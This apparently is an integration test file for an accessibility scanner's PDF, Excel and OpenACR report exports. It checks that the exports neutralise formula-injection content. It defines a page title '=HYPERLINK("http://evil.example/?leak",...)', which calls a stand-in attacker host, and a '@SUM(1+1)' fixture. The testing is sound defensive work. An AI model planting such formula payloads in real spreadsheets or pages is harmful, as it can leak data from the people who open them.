import { readFileSync } from 'node:fs';
import { connect, type Socket } from 'node:net';
import path from 'node:path';
import { Ajv } from 'ajv';
import { parse as parseYaml } from 'yaml';
import ExcelJS from 'exceljs';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { insertSingleScan } from '../../src/db/repositories/scan.repository.ts';
import { freePort } from '../../temporal-dev/dev-server.ts';
import { html, startStaticServer, type StaticServer } from '../support/static-server.ts';
import { pdfInfo, pdfText, pdfToPng } from '../helpers/pdf-tools.ts';
import { seedCrawlReport, type SeededCrawl } from '../support/seed-report.ts';
import { createTestEnv, pollUntil, type TestEnv } from '../helpers/test-env.ts';
import { WCAG22_A_AA } from '../../src/shared/wcag.ts';
import { rulesFor } from '../../src/reports/conformance.ts';

const ENDED = ['completed', 'completed_partial', 'failed', 'cancelled'];
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const ARTIFACTS = path.resolve('test-artifacts', 'exports');
const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak","Click me")';
const OPENACR = path.resolve('test', 'fixtures', 'openacr');

const page = (title: string, body: string) =>
  `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${title}</title></head><body><main><h1>Export fixture</h1>${body}</main></body></html>`;
const GIF = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';

/** Every cell value of a workbook, with the sheet and address, to check the formula rule on all of them. */
function allCells(wb: ExcelJS.Workbook) {
  const cells: Array<{ sheet: string; address: string; cell: ExcelJS.Cell }> = [];
  wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((cell) => cells.push({ sheet: ws.name, address: cell.address, cell }))));
  return cells;
}

function cellText(cell: ExcelJS.Cell): string {
  const v = cell.value as unknown;
  if (v && typeof v === 'object' && 'text' in (v as object)) return String((v as { text: unknown }).text);
  return typeof v === 'string' ? v : '';
}

function expectNoFormulaAnywhere(wb: ExcelJS.Workbook) {
  for (const { sheet, address, cell } of allCells(wb)) {
    expect(cell.type, `${sheet}!${address}`).not.toBe(ExcelJS.ValueType.Formula);
    expect(cell.formula, `${sheet}!${address}`).toBeUndefined();
    expect(cellText(cell), `${sheet}!${address}`).not.toMatch(/^[=+\-@\t\r\n]/);
  }
}

/**
 * A client that sends the request, reads the answer's head and then reads nothing more (its
 * socket buffers fill, then the server's). Resolves with the status and the head.
 */
function stalledDownload(api: string, pathname: string): Promise<{ socket: Socket; status: number; head: string }> {
  const { hostname, port } = new URL(api);
  return new Promise((resolve, reject) => {
    const socket = connect(Number(port), hostname, () => socket.write(`GET ${pathname} HTTP/1.1\r\nHost: ${hostname}:${port}\r\n\r\n`));
    let head = '';
    const onData = (d: Buffer) => {
      head += d.toString('latin1');
      if (!head.includes('\r\n\r\n')) return;
      socket.off('data', onData);
      socket.pause();
      resolve({ socket, status: Number(head.split(' ')[1]), head });
    };
    socket.on('data', onData);
    socket.on('error', reject);
  });
}

/** Reads the rest of a paused socket until the server closes it (or `waitMs` passes). */
function readToEnd(socket: Socket, waitMs: number): Promise<{ ended: boolean; text: string }> {
  return new Promise((resolve) => {
    let text = '';
    const timer = setTimeout(() => resolve({ ended: false, text }), waitMs);
    const done = () => {
      clearTimeout(timer);
      resolve({ ended: true, text });
    };
    socket.on('data', (d: Buffer) => (text += d.toString('latin1')));
    socket.once('end', done);
    socket.once('close', done);
    socket.on('error', () => {});
    socket.resume();
  });
}

describe('report exports (PDF and Excel) through the API', () => {
  let env: TestEnv;
  let site: StaticServer;
  let version = 1;
  let closedPort: number;

  beforeAll(async () => {
    site = await startStaticServer({
      '/': (req, res) =>
        html(
          page(
            'Export home',
            `<p>Read <a href="/hostile">the odd page</a> and <a href="/form">the form</a>.</p>` +
              (version === 1 ? `<img src="${GIF}" id="logo" width="30" height="30">` : `<img src="${GIF}" id="logo" alt="Example Org" width="30" height="30">`),
          ),
        )(req, res),
      '/hostile': html(page(HOSTILE_TITLE, `<p><a href="/form" id="sum">@SUM(1+1)</a> and <img src="${GIF}" id="pic" width="30" height="30"></p>`)),
      '/form': (req, res) =>
        html(page('A form', `<form><input type="text" id="name">${version === 2 ? '<input type="email" id="email">' : ''}<button type="submit">Send</button></form>`))(req, res),
    });
    closedPort = await freePort();
    env = await createTestEnv({ env: { PAGE_LOAD_TIMEOUT_MS: '5000', SCAN_RATE_LIMIT: '1000' }, discoveryOptions: { fetchTimeoutMs: 2000 } });
  });
  afterAll(async () => {
    await env?.close();
    await site?.close();
  });

  async function download(pathname: string) {
    const res = await env.request(pathname);
    const body = new Uint8Array(await res.arrayBuffer());
    return { res, body };
  }

  async function problem(pathname: string, status: number, code: string) {
    const res = await env.request(pathname);
    expect(res.status, pathname).toBe(status);
    expect(res.headers.get('content-type')).toBe('application/problem+json');
    expect(res.headers.get('x-request-id')).toBeTruthy();
    const body = await res.json();
    expect(body).toMatchObject({ status, code });
    return body;
  }

  async function scan(url: string) {
    const res = await env.request('/api/scans', { method: 'POST', json: { url } });
    expect(res.status).toBe(202);
    const { id } = await res.json();
    return pollUntil(
      async () => (await env.request(`/api/scans/${id}`)).json(),
      (s) => ENDED.includes(s.status),
      { timeoutMs: 60_000 },
    );
  }

  async function crawl(siteId: string) {
    const res = await env.request(`/api/sites/${siteId}/crawl`, { method: 'POST' });
    expect(res.status).toBe(202);
    const { crawlId } = await res.json();
    return pollUntil(
      async () => (await env.request(`/api/sites/${siteId}/crawls/${crawlId}`)).json(),
      (c) => ENDED.includes(c.status),
      { timeoutMs: 120_000 },
    );
  }

  describe('a single-page scan', () => {
    let scanned: any;
    beforeAll(async () => {
      scanned = await scan(`${site.origin}/hostile`);
      expect(scanned.status).toBe('completed');
      expect(scanned.issues.length).toBeGreaterThan(0);
    });

    it('exports a tagged PDF by default, named after the host, the kind and the day', async () => {
      const { res, body } = await download(`/api/scans/${scanned.id}/export`);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('application/pdf');
      const day = scanned.completedAt.slice(0, 10);
      expect(res.headers.get('content-disposition')).toBe(`attachment; filename="127.0.0.1-scan-${day}.pdf"`);
      expect(res.headers.get('x-request-id')).toBeTruthy();
      expect(Buffer.from(body.subarray(0, 5)).toString()).toBe('%PDF-');
      const info = await pdfInfo(body);
      expect(info.Tagged).toBe('yes');
      expect(info.Title).toContain(`${site.origin}/hostile`);
      const text = await pdfText(body);
      expect(text).toContain(`${site.origin}/hostile`);
      // Page content is printed as text, never interpreted.
      expect(text).toContain('=HYPERLINK(');
      for (const issue of scanned.issues) expect(text).toContain(issue.wcagCriterion);
      await pdfToPng(body, ARTIFACTS, 'scan', { first: 1, last: 3 });
    });

    it('exports a workbook with every issue and no cell that can start a formula', async () => {
      const { res, body } = await download(`/api/scans/${scanned.id}/export?format=excel`);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe(XLSX);
      expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="127\.0\.0\.1-scan-\d{4}-\d{2}-\d{2}\.xlsx"$/);
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(Buffer.from(body) as unknown as ExcelJS.Buffer);
      expect(wb.worksheets.map((w) => w.name)).toEqual(expect.arrayContaining(['Summary', 'Issues', 'Pages']));
      const issues = wb.getWorksheet('Issues')!;
      expect(issues.actualRowCount - 1).toBe(scanned.issues.length);
      const header = (issues.getRow(1).values as unknown[]).map(String);
      const col = (name: RegExp) => header.findIndex((h) => name.test(h));
      const selectors = new Set<string>();
      issues.eachRow((row, n) => {
        if (n > 1) selectors.add(cellText(row.getCell(col(/selector/i))));
      });
      expect([...selectors].sort()).toEqual(scanned.issues.map((i: any) => i.elementSelector).sort());
      // The page title that tries to start a formula is kept as text, prefixed with an apostrophe.
      // Cells holding the title alone (Pages, Issues) keep it as text behind an apostrophe.
      const titles = allCells(wb).map((c) => cellText(c.cell)).filter((t) => t.replace(/^'/, '').startsWith('=HYPERLINK('));
      expect(titles.length).toBeGreaterThan(1);
      for (const t of titles) expect(t).toBe(`'${HOSTILE_TITLE}`);
      expectNoFormulaAnywhere(wb);
    });

    it('answers 400 invalid_query for an unknown format and 404 / 400 for unknown or malformed ids', async () => {
      const bad = await problem(`/api/scans/${scanned.id}/export?format=docx`, 400, 'invalid_query');
      expect(bad.errors).toEqual([expect.objectContaining({ path: 'format' })]);
      await problem(`/api/scans/${scanned.id}/export?format=PDF`, 400, 'invalid_query');
      await problem('/api/scans/0b7e3f5a-1c2d-4e5f-8a9b-0c1d2e3f4a5b/export', 404, 'not_found');
      await problem('/api/scans/not-a-uuid/export', 400, 'validation_error');
    });

    it('answers 409 not_exportable for a scan without results, with the reason', async () => {
      const queued = await insertSingleScan(env.db, { url: `${site.origin}/`, clientIp: null });
      const q = await problem(`/api/scans/${queued.id}/export`, 409, 'not_exportable');
      expect(q.detail).toContain('queued');
      const failed = await scan(`http://127.0.0.1:${closedPort}/`);
      expect(failed.status).toBe('failed');
      const f = await problem(`/api/scans/${failed.id}/export?format=excel`, 409, 'not_exportable');
      expect(f.detail).toContain(failed.error.code);
    });
  });

  describe('a crawl, and what changed since the previous one', () => {
    let siteId: string;
    let second: any;
    beforeAll(async () => {
      const res = await env.request('/api/sites', { method: 'POST', json: { url: `${site.origin}/` } });
      siteId = (await res.json()).id;
      version = 1;
      const first = await crawl(siteId);
      expect(first.status).toBe('completed');
      version = 2;
      second = await crawl(siteId);
      expect(second.status).toBe('completed');
      expect(second.newIssues).toBeGreaterThan(0);
      expect(second.fixedIssues).toBeGreaterThan(0);
    });

    it('lists exactly the crawl\u2019s new and fixed issues in the workbook', async () => {
      const { res, body } = await download(`/api/sites/${siteId}/crawls/${second.id}/export?format=excel`);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-disposition')).toBe(`attachment; filename="127.0.0.1-crawl-${second.completedAt.slice(0, 10)}.xlsx"`);
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(Buffer.from(body) as unknown as ExcelJS.Buffer);
      expect(wb.worksheets.map((w) => w.name)).toEqual(expect.arrayContaining(['Summary', 'Issues', 'Pages', 'New', 'Fixed']));
      expect(wb.getWorksheet('New')!.actualRowCount - 1).toBe(second.newIssues);
      expect(wb.getWorksheet('Fixed')!.actualRowCount - 1).toBe(second.fixedIssues);
      const pages = await (await env.request(`/api/sites/${siteId}/pages?limit=100`)).json();
      expect(wb.getWorksheet('Pages')!.actualRowCount - 1).toBe(pages.pagination.total);
      const fixed = wb.getWorksheet('Fixed')!;
      const fixedText = (fixed.getSheetValues() as unknown[][]).flat().map(String).join(' ');
      expect(fixedText).toContain('#logo');
      expectNoFormulaAnywhere(wb);
    });

    it('reports the crawl as a tagged PDF with the changes and the score trend', async () => {
      const { res, body } = await download(`/api/sites/${siteId}/crawls/${second.id}/export?format=pdf`);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('application/pdf');
      const info = await pdfInfo(body);
      expect(info.Tagged).toBe('yes');
      const text = await pdfText(body);
      expect(text).toMatch(/previous crawl/i);
      expect(text).toContain(`${site.origin}/form`);
      // The conformance table, and nothing shown as working well on checks that decide only part of a criterion.
      expect(text).toContain('Conformance report (ACR)');
      expect(text).toContain('No automated failure');
      expect(text).not.toContain('What works well');
      await pdfToPng(body, ARTIFACTS, 'crawl', { first: 1, last: 4 });
    });

    it('exports an OpenACR that validates against GSA\u2019s schema and catalogue and claims only what the checks show', async () => {
      const { res, body } = await download(`/api/sites/${siteId}/crawls/${second.id}/export?format=openacr`);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('application/yaml; charset=utf-8');
      expect(res.headers.get('content-disposition')).toBe(`attachment; filename="127.0.0.1-crawl-${second.completedAt.slice(0, 10)}.openacr.yaml"`);
      const doc = parseYaml(Buffer.from(body).toString('utf8'));
      const validate = new Ajv({ allErrors: true, strict: false }).compile(JSON.parse(readFileSync(path.join(OPENACR, 'openacr-0.1.0.json'), 'utf8')));
      expect(validate(doc), JSON.stringify(validate.errors)).toBe(true);
      // The values the catalogue defines: criterion numbers per chapter, component ids, conformance terms.
      const catalog = parseYaml(readFileSync(path.join(OPENACR, '2.5-edition-wcag-2.2-en.yaml'), 'utf8'));
      expect(doc.catalog).toBe('2.5-edition-wcag-2.2-en');
      const terms = new Set(catalog.terms.map((t: any) => t.id));
      const components = new Set(catalog.components.map((c: any) => c.id));
      const rows: Array<{ num: string; level: string; notes: string }> = [];
      for (const chapter of ['success_criteria_level_a', 'success_criteria_level_aa']) {
        const nums = new Set(catalog.chapters.find((c: any) => c.id === chapter).criteria.map((c: any) => String(c.id)));
        for (const c of doc.chapters[chapter].criteria) {
          expect(nums.has(c.num), `${chapter} ${c.num}`).toBe(true);
          expect(c.components).toHaveLength(1);
          expect(components.has(c.components[0].name)).toBe(true);
          expect(terms.has(c.components[0].adherence.level), c.components[0].adherence.level).toBe(true);
          rows.push({ num: c.num, ...c.components[0].adherence });
        }
      }
      // Every WCAG 2.2 A and AA criterion once, and never "supports" on automated evidence.
      expect(rows.map((r) => r.num).sort()).toEqual(WCAG22_A_AA.map((c) => c.id).sort());
      expect(rows.map((r) => r.level)).not.toContain('supports');
      const row = (num: string) => rows.find((r) => r.num === num)!;
      // Every criterion no rule of the service looks at: not evaluated, a person must (1.2.4 Captions (Live) among them).
      const unchecked = WCAG22_A_AA.map((c) => c.id).filter((id) => rulesFor(id).length === 0);
      expect(unchecked).toContain('1.2.4');
      for (const num of unchecked) expect(row(num), num).toEqual({ num, level: 'not-evaluated', notes: 'Needs a person: no automated check decides this.' });
      // The image without a text alternative is left on one page of three: partially supported, with the example.
      expect(row('1.1.1').level).toBe('partially-supports');
      expect(row('1.1.1').notes).toContain('on 1 of 3 pages audited');
      expect(row('1.1.1').notes).toContain(`${site.origin}/hostile`);
      expect(row('1.1.1').notes).toContain('#pic');
      // Checked and nothing confirmed: not evaluated, with the reason.
      for (const r of rows.filter((x) => x.level === 'not-evaluated' && !unchecked.includes(x.num))) {
        expect(r.notes, r.num).toMatch(/No automated failure|need(s)? review by a person|no automated check applied/);
      }
      // The pages audited, the engines and their versions, and the date.
      expect(doc.notes).toContain(`${site.origin}/form`);
      expect(doc.notes).toContain('Pages audited (3)');
      expect(doc.evaluation_methods_used).toMatch(/axe-core \(version \d+\.\d+\.\d+\)/);
      expect(doc.report_date).toBe(second.completedAt.slice(0, 10));
    });

    it('answers 404 for another site\u2019s crawl and 409 for a crawl still running', async () => {
      const other = await env.request('/api/sites', { method: 'POST', json: { url: 'http://other.example/' } });
      const otherId = (await other.json()).id;
      await problem(`/api/sites/${otherId}/crawls/${second.id}/export`, 404, 'not_found');
      await problem(`/api/sites/${siteId}/crawls/0b7e3f5a-1c2d-4e5f-8a9b-0c1d2e3f4a5b/export`, 404, 'not_found');
      const running = await env.db.insertInto('crawls').values({ site_id: otherId, max_pages: 10, status: 'running' }).returning('id').executeTakeFirstOrThrow();
      const body = await problem(`/api/sites/${otherId}/crawls/${running.id}/export?format=excel`, 409, 'not_exportable');
      expect(body.detail).toContain('running');
      await problem(`/api/sites/${siteId}/crawls/${second.id}/export?format=csv`, 400, 'invalid_query');
    });
  });

  describe('a large crawl', () => {
    let seeded: SeededCrawl;
    beforeAll(async () => {
      seeded = await seedCrawlReport(env.db, { pages: 400, issuesPerPage: 20 });
    });

    it('streams every issue into the workbook, page-content cells neutralised', async () => {
      const { res, body } = await download(`/api/sites/${seeded.siteId}/crawls/${seeded.crawlId}/export?format=excel`);
      expect(res.status).toBe(200);
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(Buffer.from(body) as unknown as ExcelJS.Buffer);
      expect(wb.getWorksheet('Issues')!.actualRowCount - 1).toBe(seeded.issues);
      expect(wb.getWorksheet('New')!.actualRowCount - 1).toBe(seeded.newIssues);
      expect(wb.getWorksheet('Fixed')!.actualRowCount - 1).toBe(seeded.fixedIssues);
      const changes = (sheet: string) => (wb.getWorksheet(sheet)!.getSheetValues() as unknown[][]).flat().filter((v) => v === 'new' || v === 'reopened' || v === 'fixed');
      const newChanges = changes('New');
      expect(newChanges.filter((v) => v === 'reopened').length).toBe(Math.floor(seeded.issues / 200));
      expect(newChanges.filter((v) => v === 'new').length).toBe(seeded.newIssues - Math.floor(seeded.issues / 200));
      expect(changes('Fixed').every((v) => v === 'fixed')).toBe(true);
      const texts = allCells(wb).map((c) => cellText(c.cell));
      expect(texts).toContain("'@SUM(1+1)");
      expect(texts).toContain('target-size-mobile');
      expect(texts.some((t) => t.startsWith(`'=HYPERLINK(`))).toBe(true);
    });

    it('keeps a PDF of thousands of issues short: groups, not one entry per issue', async () => {
      const { res, body } = await download(`/api/sites/${seeded.siteId}/crawls/${seeded.crawlId}/export`);
      expect(res.status).toBe(200);
      const info = await pdfInfo(body);
      expect(info.Tagged).toBe('yes');
      expect(Number(info.Pages)).toBeLessThan(60);
    });
  });

  describe('downloads a client abandons or stops reading', () => {
    // Big enough that socket buffers cannot hold the whole workbook (loopback buffers here take some
    // 5 MB): 12,000 issues whose HTML is 2 KB of hex that compresses only to half, about 12 MB in
    // all, so the renderer soon waits on the reader and the stall is the client's, not the CPU's.
    let big: SeededCrawl;
    let small: SeededCrawl;
    let api: { api: string; close(): Promise<void> };
    const STALL_MS = 1500;
    const CONCURRENCY = 4;
    beforeAll(async () => {
      big = await seedCrawlReport(env.db, { pages: 600, issuesPerPage: 20 });
      await sql`update findings f set element_html = (select string_agg(md5(random()::text || f.id::text || g), '') from generate_series(1, 64) g)
                from page_scans ps where ps.id = f.page_scan_id and ps.crawl_id = ${big.crawlId}`.execute(env.db);
      small = await seedCrawlReport(env.db, { pages: 2, issuesPerPage: 2 });
      api = await env.startApi({ config: { ...env.config, exportStallMs: STALL_MS, exportConcurrency: CONCURRENCY } });
    }, 120_000);
    afterAll(async () => api?.close());
    const bigPath = () => `/api/sites/${big.siteId}/crawls/${big.crawlId}/export?format=excel`;
    const smallPath = () => `/api/sites/${small.siteId}/crawls/${small.crawlId}/export?format=excel`;

    /** Backends of the test database still reading a report's findings (a cursor left open). */
    async function openCursors(): Promise<number> {
      const r = await sql<{ n: number }>`select count(*)::int as n from pg_stat_activity
        where datname = current_database() and pid <> pg_backend_pid() and state <> 'idle' and query ilike '%from "findings"%'`.execute(env.db);
      return r.rows[0]!.n;
    }

    it('stops rendering when the client goes away, and serves other requests meanwhile', async () => {
      const abort = new AbortController();
      const res = await fetch(`${api.api}${bigPath()}`, { signal: abort.signal });
      expect(res.status).toBe(200);
      const reader = res.body!.getReader();
      const first = await reader.read();
      expect(first.done).toBe(false);
      const health = await fetch(`${api.api}/healthz`);
      expect(health.status).toBe(200);
      abort.abort();
      await reader.cancel().catch(() => {});
      // Its slot and its cursor are given back.
      await pollUntil(openCursors, (n) => n === 0, { timeoutMs: 10_000 });
      const after = await fetch(`${api.api}${smallPath()}`);
      expect(after.status).toBe(200);
      await after.arrayBuffer();
    });

    it('ends downloads whose client stops reading within the stall time, closes their cursors, and never exhausts the pool', { timeout: 120_000 }, async () => {
      const clients = await Promise.all(Array.from({ length: 10 }, () => stalledDownload(api.api, bigPath())));
      const statuses = clients.map((c) => c.status).sort();
      // A few at a time per process; the others are told when to come back.
      expect(statuses).toEqual([...Array(CONCURRENCY).fill(200), ...Array(10 - CONCURRENCY).fill(429)]);
      for (const refused of clients.filter((c) => c.status === 429)) {
        expect(refused.head).toMatch(/content-type: application\/problem\+json/i);
        expect(refused.head).toMatch(/retry-after: 5/i);
        expect(refused.head).toContain('concurrency_limited');
      }
      expect(await openCursors()).toBeGreaterThan(0);
      // The pool still serves everyone else while they hold their exports.
      expect((await fetch(`${api.api}/api/sites`)).status).toBe(200);

      // The stalled ones are ended by the server (no client ever reads on): their cursors close.
      // Bounded generously, not timed: a loaded machine renders slower, the outcome is the same.
      await pollUntil(openCursors, (n) => n === 0, { timeoutMs: 60_000, everyMs: 100 });
      // Each stalled download was cut short: reading on, its body ends without the last chunk.
      for (const c of clients.filter((x) => x.status === 200)) {
        const rest = await readToEnd(c.socket, 20_000);
        expect(rest.ended).toBe(true);
        expect((c.head + rest.text).endsWith('\r\n0\r\n\r\n')).toBe(false);
      }
      for (const c of clients) c.socket.destroy();
      // Slots are free again: an export answers in full.
      const again = await fetch(`${api.api}${smallPath()}`);
      expect(again.status).toBe(200);
      expect((await again.arrayBuffer()).byteLength).toBeGreaterThan(1000);
    });
  });
});
